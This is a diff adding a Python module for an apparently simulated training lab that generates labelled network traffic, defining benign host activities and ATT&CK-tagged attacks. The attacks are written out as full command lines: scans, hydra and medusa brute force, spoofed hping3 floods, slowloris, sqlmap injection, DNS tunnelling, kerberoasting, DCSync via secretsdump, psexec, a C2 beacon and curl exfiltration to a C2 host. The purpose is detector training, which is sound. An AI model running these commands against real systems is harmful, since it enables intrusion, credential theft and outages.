@@ -1,0 +1,777 @@
+"""What the lab's hosts do: one entry per kind of activity, benign or attack, each a real
+program's command line run in the actor's namespace.
+
+An ``Action`` says which tool it runs, who may run it, which hosts it talks to (the labeller
+follows the actor's packets to those targets), the ATT&CK technique for attacks, and how to
+read the tool's outcome (success, attempted, failed) from its exit status and output.
+"""
+
+from __future__ import annotations
+
+import random
+import shutil
+import sys
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from quietwire.trainer.lab.services import (
+    ADMIN_PASSWORD,
+    NO_PREAUTH,
+    TUNNEL_PASSWORD,
+    TUNNEL_ZONE,
+    USERS,
+)
+from quietwire.trainer.lab.topology import BY_NAME, LAN_NET
+
+WEB, FILES, DC, DNS = (BY_NAME[n].ip for n in ("web", "files", "dc", "dns"))
+WWW, C2, TUN = BY_NAME["www"].ip, BY_NAME["c2"].ip, BY_NAME["tun"].ip
+WORDS = [
+    "123456",
+    "password",
+    "letmein",
+    "qwerty",
+    "dragon",
+    "monkey",
+    "football",
+    "iloveyou",
+    "admin",
+    "welcome",
+    "abc123",
+    "master",
+    "shadow",
+    "sunshine",
+    "princess",
+    "trustno1",
+    "baseball",
+    "superman",
+    "michael",
+    "sunshine1",
+    "batman",
+    "hunter2",
+    "starwars",
+    "summer",
+]
+
+
+@dataclass(frozen=True)
+class Context:
+    """What a command line needs: the run's folder and the tools' places."""
+
+    workdir: Path
+    rng: random.Random
+    duration_s: float  # the time the schedule gives this event
+
+    def file(self, name: str, size: int) -> Path:
+        path = self.workdir / "payload" / name
+        if not path.exists():
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_bytes(random.Random(size).randbytes(size))
+        return path
+
+    @property
+    def words(self) -> Path:
+        path = self.workdir / "words.txt"
+        if not path.exists():
+            path.write_text("\n".join(WORDS) + "\n")
+        return path
+
+
+Command = Callable[[Context, str], list[str]]  # (context, actor name) -> argv
+Outcome = Callable[[int, str], str]  # (exit status, output) -> success/attempted/failed
+
+
+def by_exit(rc: int, out: str) -> str:
+    return "success" if rc == 0 else "failed"
+
+
+def found(marker: str, otherwise: str = "attempted") -> Outcome:
+    return lambda rc, out: "success" if marker.lower() in out.lower() else otherwise
+
+
+@dataclass(frozen=True)
+class Action:
+    kind: str  # "benign" or the attack's name
+    tool: str  # the program on the wire (its --version goes into the events)
+    command: Command
+    targets: tuple[str, ...]  # addresses or CIDRs the actor's packets go to
+    technique: str = ""  # ATT&CK id (attacks)
+    actors: tuple[str, ...] = ()  # who may run it (empty: see actors_of)
+    outcome: Outcome = by_exit
+    relays: tuple[tuple[str, str], ...] = ()  # (from, to) flows another host makes for it
+    spoofed: bool = False  # forged source addresses: follow the actor's MAC only
+    min_s: float = 5.0  # the shortest slot it needs
+    activity: str = ""  # the benign activity's name
+    extra: dict = field(default_factory=dict)
+
+    @property
+    def name(self) -> str:
+        return self.activity or self.kind
+
+    @property
+    def attack(self) -> bool:
+        return self.kind != "benign"
+
+
+def sh(script: str) -> list[str]:
+    return ["sh", "-c", script]
+
+
+def _impacket(script: str) -> str:
+    found_script = shutil.which(script) or str(Path(sys.executable).parent / script)
+    return found_script
+
+
+def _user(ctx: Context):
+    return ctx.rng.choice(USERS[:1] + USERS[2:])  # not bob: his password is the weak one
+
+
+def _key(ctx: Context, user: str) -> str:
+    return str(ctx.workdir / "keys" / user)
+
+
+SSH = [
+    "-o",
+    "StrictHostKeyChecking=no",
+    "-o",
+    "UserKnownHostsFile=/dev/null",
+    "-o",
+    "BatchMode=yes",
+    "-o",
+    "LogLevel=ERROR",
+    "-o",
+    "ConnectTimeout=10",
+]
+
+
+def _krb(actor: str) -> str:
+    return f"KRB5CCNAME=FILE:/tmp/qwl-krb5cc-{actor}"
+
+
+# --- benign work ------------------------------------------------------------------------
+def _browse(ctx: Context, actor: str) -> list[str]:
+    r = ctx.rng
+    urls = [f"http://{WEB}/"] + [
+        f"http://{WEB}/static/asset{r.randrange(8)}.css" for _ in range(r.randint(1, 4))
+    ]
+    urls += [
+        f"http://{WEB}/search?q=item+{r.randint(1, 60)}",
+        f"http://{WEB}/item?id={r.randint(1, 60)}",
+    ]
+    if r.random() < 0.3:
+        urls.append(f"http://{WEB}/static/logo.png")
+    return ["curl", "-s", "-o", "/dev/null", "--max-time", "20", *urls]
+
+
+def _download(ctx: Context, actor: str) -> list[str]:
+    size = int(ctx.rng.lognormvariate(12, 1.5))
+    scheme = ctx.rng.choice(["http", "https"])
+    return [
+        "wget",
+        "-q",
+        "-O",
+        "/dev/null",
+        "--no-check-certificate",
+        "-T",
+        "30",
+        f"{scheme}://updates.example/file/{size}",
+    ]
+
+
+def _news(ctx: Context, actor: str) -> list[str]:
+    return [
+        "curl",
+        "-sk",
+        "-o",
+        "/dev/null",
+        "--max-time",
+        "20",
+        f"https://{ctx.rng.choice(['news.example', 'cdn.example', 'example.com'])}/",
+    ]
+
+
+def _lookups(ctx: Context, actor: str) -> list[str]:
+    r = ctx.rng
+    names = [
+        "A",
+        "www.example.com",
+        "MX",
+        "cdn.example",
+        "TXT",
+        "updates.example",
+        "A",
+        f"host{r.randint(1, 99)}.nonexistent.example",
+        "A",
+        "dc.lab.example",
+        "SRV",
+        "_ldap._tcp.lab.example",
+    ]
+    return ["dig", "+tries=1", "+time=3", f"@{DNS}", *names]
+
+
+def _ssh(ctx: Context, actor: str) -> list[str]:
+    user = _user(ctx).name
+    wait = max(1, int(ctx.duration_s * ctx.rng.uniform(0.2, 0.8)))
+    cmd = f"uname -a; ls -la; df -h; sleep {wait}; ps aux | head -20"
+    return ["ssh", *SSH, "-i", _key(ctx, user), f"{user}@{FILES}", cmd]
+
+
+def _long_session(ctx: Context, actor: str) -> list[str]:
+    user = _user(ctx).name
+    n = max(2, int(ctx.duration_s / 4))
+    return [
+        "ssh",
+        *SSH,
+        "-i",
+        _key(ctx, user),
+        f"{user}@{FILES}",
+        f"for i in $(seq {n}); do date; uptime; sleep 3; done",
+    ]
+
+
+def _scp(ctx: Context, actor: str) -> list[str]:
+    user = _user(ctx).name
+    src = ctx.file(f"doc{ctx.rng.randint(1, 5)}.bin", ctx.rng.choice([20_000, 150_000, 900_000]))
+    if ctx.rng.random() < 0.5:
+        return ["scp", *SSH, "-i", _key(ctx, user), str(src), f"{user}@{FILES}:data/"]
+    return ["scp", *SSH, "-i", _key(ctx, user), f"{user}@{FILES}:/etc/services", "/dev/null"]
+
+
+def _ftp(ctx: Context, actor: str) -> list[str]:
+    user = _user(ctx)
+    src = ctx.file(f"report{ctx.rng.randint(1, 3)}.bin", ctx.rng.choice([40_000, 300_000]))
+    return [
+        "lftp",
+        "-u",
+        f"{user.name},{user.password}",
+        "-e",
+        f"set net:timeout 10; set net:max-retries 1; cd data; put {src}; ls; get "
+        f"{src.name} -o /dev/null; bye",
+        FILES,
+    ]
+
+
+def _smb_copy(ctx: Context, actor: str) -> list[str]:
+    user = _user(ctx)
+    src = ctx.file(f"sheet{ctx.rng.randint(1, 4)}.bin", ctx.rng.choice([30_000, 250_000]))
+    return sh(
+        f"export {_krb(actor)}; echo '{user.password}' | kinit {user.name}@LAB.EXAMPLE >/dev/null"
+        f" && smbclient //dc.lab.example/files --use-kerberos=required -c "
+        f"'put {src} {actor}-{src.name}; ls; get {actor}-{src.name} /dev/null'"
+    )
+
+
+def _ldap(ctx: Context, actor: str) -> list[str]:
+    user = _user(ctx)
+    return [
+        "ldapsearch",
+        "-x",
+        "-LLL",
+        "-o",
+        "nettimeout=10",
+        "-H",
+        f"ldap://{DC}",
+        "-D",
+        f"{user.name}@lab.example",
+        "-w",
+        user.password,
+        "-b",
+        "DC=lab,DC=example",
+        "(objectClass=user)",
+        "sAMAccountName",
+        "mail",
+    ]
+
+
+def _admin_rpc(ctx: Context, actor: str) -> list[str]:
+    return [
+        "rpcclient",
+        "-U",
+        f"LAB\\Administrator%{ADMIN_PASSWORD}",
+        DC,
+        "-c",
+        "enumdomusers; enumdomgroups; querydominfo; srvinfo",
+    ]
+
+
+def _admin_ssh(ctx: Context, actor: str) -> list[str]:
+    user = USERS[0].name
+    return [
+        "ssh",
+        *SSH,
+        "-i",
+        _key(ctx, user),
+        f"{user}@{FILES}",
+        "uptime; free -m; ls /var/log | head; who",
+    ]
+
+
+def _backup(ctx: Context, actor: str) -> list[str]:
+    user = USERS[0].name
+    src = ctx.file("backup.tar", ctx.rng.choice([4_000_000, 9_000_000]))
+    return ["scp", *SSH, "-i", _key(ctx, user), str(src), f"{user}@{FILES}:data/{actor}.tar"]
+
+
+def _cloud_upload(ctx: Context, actor: str) -> list[str]:
+    src = ctx.file("sync.bin", ctx.rng.choice([2_000_000, 6_000_000]))
+    return [
+        "curl",
+        "-sk",
+        "-o",
+        "/dev/null",
+        "--max-time",
+        "60",
+        "-T",
+        str(src),
+        f"https://cloud.example/sync/{actor}",
+    ]
+
+
+BENIGN = (
+    Action("benign", "curl", _browse, (WEB,), activity="web_browse"),
+    Action("benign", "wget", _download, (WWW, DNS), activity="download"),
+    Action("benign", "curl", _news, (WWW, DNS), activity="news"),
+    Action("benign", "dig", _lookups, (DNS,), activity="dns_lookups"),
+    Action("benign", "ssh", _ssh, (FILES,), activity="ssh_session", min_s=8),
+    Action("benign", "ssh", _long_session, (FILES,), activity="long_session", min_s=30),
+    Action("benign", "scp", _scp, (FILES,), activity="scp_copy"),
+    Action("benign", "lftp", _ftp, (FILES,), activity="ftp_transfer"),
+    Action("benign", "smbclient", _smb_copy, (DC,), activity="smb_copy"),
+    Action("benign", "ldapsearch", _ldap, (DC,), activity="ldap_query"),
+    Action("benign", "rpcclient", _admin_rpc, (DC,), actors=("admin",), activity="admin_rpc"),
+    Action("benign", "ssh", _admin_ssh, (FILES,), actors=("admin",), activity="admin_ssh"),
+    Action(
+        "benign", "scp", _backup, (FILES,), actors=("admin", "ws04"), activity="backup", min_s=20
+    ),
+    Action("benign", "curl", _cloud_upload, (WWW, DNS), activity="cloud_upload", min_s=20),
+)
+
+
+# --- attacks ------------------------------------------------------------------------------
+def _nmap(*flags: str, target: str) -> Command:
+    return lambda ctx, actor: [
+        "nmap",
+        "-n",
+        "-Pn",
+        *flags,
+        "--max-retries",
+        "1",
+        "--host-timeout",
+        f"{max(20, int(ctx.duration_s))}s",
+        target,
+    ]
+
+
+def _sweep(ctx: Context, actor: str) -> list[str]:
+    return ["nmap", "-n", "-sn", "-T4", "--max-retries", "1", f"{LAN_NET}.0/24"]
+
+
+def _masscan(ctx: Context, actor: str) -> list[str]:
+    return [
+        "masscan",
+        f"{LAN_NET}.0/24",
+        "-p",
+        "21,22,80,443,445,3389,8080",
+        "--rate",
+        "300",
+        "--wait",
+        "2",
+        "--router-mac",
+        BY_NAME_ROUTER_MAC,
+        "--adapter-ip",
+        BY_NAME[actor].ip,
+    ]
+
+
+def _hydra_ssh(ctx: Context, actor: str) -> list[str]:
+    return ["hydra", "-l", "bob", "-P", str(ctx.words), "-t", "4", "-f", "-I", f"ssh://{FILES}"]
+
+
+def _medusa_ftp(ctx: Context, actor: str) -> list[str]:
+    return [
+        "medusa",
+        "-h",
+        FILES,
+        "-u",
+        "carol",
+        "-P",
+        str(ctx.words),
+        "-M",
+        "ftp",
+        "-t",
+        "2",
+        "-f",
+    ]
+
+
+def _hydra_http(ctx: Context, actor: str) -> list[str]:
+    return [
+        "hydra",
+        "-l",
+        "alice",
+        "-P",
+        str(ctx.words),
+        "-t",
+        "4",
+        "-f",
+        "-I",
+        WEB,
+        "http-post-form",
+        "/login:user=^USER^&pass=^PASS^:Login failed",
+    ]
+
+
+def _flood(udp: bool, target: str, port: int) -> Command:
+    def command(ctx: Context, actor: str) -> list[str]:
+        count = int(min(ctx.duration_s, 20) * 1500)  # 1,500 packets/s: the lab keeps up
+        return [
+            "hping3",
+            *(["--udp"] if udp else ["-S"]),
+            "-p",
+            str(port),
+            "--rand-source",
+            "-i",
+            "u666",
+            "-c",
+            str(count),
+            "-q",
+            target,
+        ]
+
+    return command
+
+
+def _slow(*flags: str, url: str) -> Command:
+    return lambda ctx, actor: [
+        "slowhttptest",
+        *flags,
+        "-u",
+        url,
+        "-l",
+        str(max(15, int(ctx.duration_s) - 5)),
+        "-o",
+        str(ctx.workdir / f"slowhttptest-{actor}"),
+    ]
+
+
+def _sqlmap(*flags: str) -> Command:
+    return lambda ctx, actor: [
+        "sqlmap",
+        "-u",
+        f"http://{WEB}/item?id=1",
+        "--batch",
+        "--dbms=sqlite",
+        "--technique=BU",
+        "--flush-session",
+        "--output-dir",
+        str(ctx.workdir / "sqlmap"),
+        "--timeout",
+        "10",
+        *flags,
+    ]
+
+
+def _iodine(ctx: Context, actor: str) -> list[str]:
+    pings = max(5, int(ctx.duration_s / 2) - 8)
+    return sh(
+        f"iodine -f -r -P {TUNNEL_PASSWORD} {DNS} {TUNNEL_ZONE} & pid=$!; sleep 6; "
+        f"ping -c {pings} -i 1 -s 400 -W 2 10.99.0.1; kill $pid; wait $pid"
+    )
+
+
+def _impacket_cmd(script: str, *args: str) -> Command:
+    return lambda ctx, actor: [_impacket(script), *args]
+
+
+ALICE = f"lab.example/alice:{USERS[0].password}"
+ADMIN = f"lab.example/Administrator:{ADMIN_PASSWORD}"
+
+
+def _asrep(ctx: Context, actor: str) -> list[str]:
+    users = ctx.workdir / "userlist.txt"
+    users.write_text("\n".join([NO_PREAUTH.name, "alice", "carol", "administrator"]) + "\n")
+    return [
+        _impacket("GetNPUsers.py"),
+        "-no-pass",
+        "-usersfile",
+        str(users),
+        "-dc-ip",
+        DC,
+        "lab.example/",
+    ]
+
+
+def _clone_dc(ctx: Context, actor: str) -> list[str]:
+    target = ctx.workdir / f"clone-{actor}-{ctx.rng.randrange(1 << 30)}"
+    return [
+        "samba-tool",
+        "drs",
+        "clone-dc-database",
+        "lab.example",
+        f"--server={DC}",
+        f"--targetdir={target}",
+        f"-UAdministrator%{ADMIN_PASSWORD}",
+    ]
+
+
+def _beacon(ctx: Context, actor: str) -> list[str]:
+    n = max(3, int(ctx.duration_s / 10))
+    return sh(
+        f"for i in $(seq {n}); do curl -sk -o /dev/null --max-time 5 "
+        f"-A 'Mozilla/5.0 (Windows NT 10.0)' https://{C2}/api/v2/check; "
+        f"sleep $(( 7 + $(od -An -N1 -tu1 /dev/urandom) % 6 )); done"
+    )
+
+
+def _exfil(ctx: Context, actor: str) -> list[str]:
+    src = ctx.file("exfil.tar.gz", 25_000_000)
+    return [
+        "curl",
+        "-sk",
+        "-o",
+        "/dev/null",
+        "--max-time",
+        "120",
+        "-T",
+        str(src),
+        f"https://{C2}/upload",
+    ]
+
+
+BY_NAME_ROUTER_MAC = "02:77:00:00:00:01"
+LAN = f"{LAN_NET}.0/24"
+ATTACKERS = ("ws02", "ws03", "ws06")  # also do benign work outside their attacks
+
+ATTACKS = (
+    Action(
+        "port_scan_syn",
+        "nmap",
+        _nmap("-sS", "-T4", "-p", "1-1000", target=f"{WEB}-13"),
+        (f"{LAN_NET}.10/30",),
+        "T1046",
+    ),
+    Action(
+        "port_scan_connect",
+        "nmap",
+        _nmap("-sT", "-T4", "-p", "1-600", target=FILES),
+        (FILES,),
+        "T1046",
+    ),
+    Action(
+        "port_scan_udp",
+        "nmap",
+        _nmap("-sU", "-T4", "--top-ports", "40", target=DNS),
+        (DNS,),
+        "T1046",
+        min_s=20,
+    ),
+    Action("host_sweep", "nmap", _sweep, (LAN,), "T1018", actors=("remote",)),
+    Action("port_scan_masscan", "masscan", _masscan, (LAN,), "T1046", min_s=15),
+    Action(
+        "brute_force_ssh",
+        "hydra",
+        _hydra_ssh,
+        (FILES,),
+        "T1110.001",
+        outcome=found("valid password found", "failed"),
+        min_s=20,
+    ),
+    Action(
+        "brute_force_ftp",
+        "medusa",
+        _medusa_ftp,
+        (FILES,),
+        "T1110.001",
+        outcome=found("ACCOUNT FOUND", "failed"),
+        min_s=20,
+    ),
+    Action(
+        "brute_force_http",
+        "hydra",
+        _hydra_http,
+        (WEB,),
+        "T1110.001",
+        outcome=found("valid password found", "failed"),
+        min_s=10,
+    ),
+    Action(
+        "syn_flood",
+        "hping3",
+        _flood(False, WEB, 80),
+        (WEB,),
+        "T1498",
+        spoofed=True,
+        outcome=lambda rc, out: "success",
+        min_s=10,
+    ),
+    Action(
+        "udp_flood",
+        "hping3",
+        _flood(True, DNS, 53),
+        (DNS,),
+        "T1498",
+        spoofed=True,
+        outcome=lambda rc, out: "success",
+        min_s=10,
+    ),
+    Action(
+        "slowloris",
+        "slowhttptest",
+        _slow(
+            "-c", "300", "-H", "-i", "10", "-r", "100", "-x", "24", "-p", "3", url=f"http://{WEB}/"
+        ),
+        (WEB,),
+        "T1499.002",
+        min_s=25,
+        outcome=lambda rc, out: "success",
+    ),
+    Action(
+        "slow_body",
+        "slowhttptest",
+        _slow(
+            "-c",
+            "300",
+            "-B",
+            "-i",
+            "10",
+            "-r",
+            "100",
+            "-s",
+            "8192",
+            "-t",
+            "POST",
+            url=f"http://{WEB}/login",
+        ),
+        (WEB,),
+        "T1499.002",
+        min_s=25,
+        outcome=lambda rc, out: "success",
+    ),
+    Action(
+        "slow_read",
+        "slowhttptest",
+        _slow(
+            "-c",
+            "200",
+            "-X",
+            "-r",
+            "100",
+            "-w",
+            "10",
+            "-y",
+            "20",
+            "-n",
+            "5",
+            "-z",
+            "32",
+            url=f"http://{WEB}/static/logo.png",
+        ),
+        (WEB,),
+        "T1499.002",
+        min_s=25,
+        outcome=lambda rc, out: "success",
+    ),
+    Action(
+        "sql_injection",
+        "sqlmap",
+        _sqlmap(),
+        (WEB,),
+        "T1190",
+        outcome=found("is vulnerable"),
+        min_s=20,
+    ),
+    Action(
+        "sql_injection_random_agent",
+        "sqlmap",
+        _sqlmap("--random-agent"),
+        (WEB,),
+        "T1190",
+        outcome=found("is vulnerable"),
+        min_s=20,
+    ),
+    Action(
+        "dns_tunnel",
+        "iodine",
+        _iodine,
+        (DNS,),
+        "T1071.004",
+        relays=((DNS, TUN),),
+        outcome=found("bytes from 10.99.0.1", "failed"),
+        min_s=25,
+    ),
+    Action(
+        "sid_enumeration",
+        "impacket",
+        _impacket_cmd("lookupsid.py", f"{ALICE}@{DC}", "2000"),
+        (DC,),
+        "T1087.002",
+        outcome=found("SidTypeUser"),
+    ),
+    Action(
+        "samr_enumeration",
+        "impacket",
+        _impacket_cmd("samrdump.py", f"{ALICE}@{DC}"),
+        (DC,),
+        "T1087.002",
+        outcome=found("Received"),
+    ),
+    Action(
+        "rpc_endpoint_dump",
+        "impacket",
+        _impacket_cmd("rpcdump.py", DC),
+        (DC,),
+        "T1046",
+        outcome=found("Protocol:"),
+    ),
+    Action(
+        "kerberoasting",
+        "impacket",
+        _impacket_cmd("GetUserSPNs.py", "-request", "-dc-ip", DC, ALICE),
+        (DC,),
+        "T1558.003",
+        outcome=found("$krb5tgs$"),
+    ),
+    Action("asrep_roasting", "impacket", _asrep, (DC,), "T1558.004", outcome=found("$krb5asrep$")),
+    Action(
+        "dcsync",
+        "impacket",
+        _impacket_cmd("secretsdump.py", "-just-dc", f"{ADMIN}@{DC}"),
+        (DC,),
+        "T1003.006",
+        outcome=found(":::"),
+    ),
+    Action("dcsync_clone", "samba-tool", _clone_dc, (DC,), "T1003.006", min_s=20),
+    Action(
+        "remote_service_psexec",
+        "impacket",
+        _impacket_cmd("psexec.py", f"{ADMIN}@{DC}", "whoami"),
+        (DC,),
+        "T1569.002",
+        outcome=found("nt authority"),
+    ),
+    Action(
+        "remote_service_smbexec",
+        "impacket",
+        _impacket_cmd("smbexec.py", f"{ADMIN}@{DC}"),
+        (DC,),
+        "T1569.002",
+        outcome=found("nt authority"),
+    ),
+    Action(
+        "c2_beacon",
+        "curl",
+        _beacon,
+        (C2,),
+        "T1071.001",
+        min_s=40,
+        outcome=lambda rc, out: "success",
+    ),
+    Action("exfiltration", "curl", _exfil, (C2,), "T1041", min_s=20),
+)
+ATTACK_BY_KIND = {a.kind: a for a in ATTACKS}
+CLIENTS = tuple(h.name for h in BY_NAME.values() if h.role in ("client", "admin"))
+
+
+def actors_of(action: Action) -> tuple[str, ...]:
+    """Who may run it: its own list, else the attackers for an attack, the clients for work."""
+    return action.actors or (ATTACKERS if action.attack else CLIENTS)
